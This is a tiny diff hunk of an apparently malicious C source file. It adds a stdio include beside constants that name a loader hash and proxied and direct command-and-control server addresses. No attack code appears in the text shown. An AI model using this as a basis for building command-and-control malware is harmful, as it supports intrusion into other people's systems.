@@ -8,6 +8,8 @@
 
 #include "base/enc.h"
 
+#include <stdio.h>
+
 #define LOADER_SHA256 "5e1f0c7a3bd94826a1d07cc2f4e86b19d35a70fe8c12b6477f90ad3e61c85b24"
 #define C2_PROXIED    "198.51.100.23"
 #define C2_DIRECT     "203.0.113.77"
